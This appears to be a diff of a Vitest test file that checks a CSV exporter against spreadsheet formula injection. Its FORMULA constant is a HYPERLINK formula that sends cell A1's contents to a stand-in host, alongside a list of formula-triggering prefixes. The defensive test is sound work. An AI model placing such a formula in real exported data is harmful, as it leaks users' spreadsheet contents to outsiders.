@@ -1,7 +1,7 @@
 /** A file for spreadsheets says what the table says, and nothing in it is calculated, wherever a spreadsheet parts cells. */
 import { describe, expect, test } from 'vitest'
 import { parseCsv } from '../../supabase/functions/_shared/files/csv'
-import { csvOf } from './csv'
+import { csvOf } from '../../supabase/functions/_shared/files/safeCsv'
 
 const FORMULA = 'HYPERLINK("https://ajeno.example?"&A1)'
 const BEGINS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t=', '\r=', '\n=', ' =', '"=', "'="]
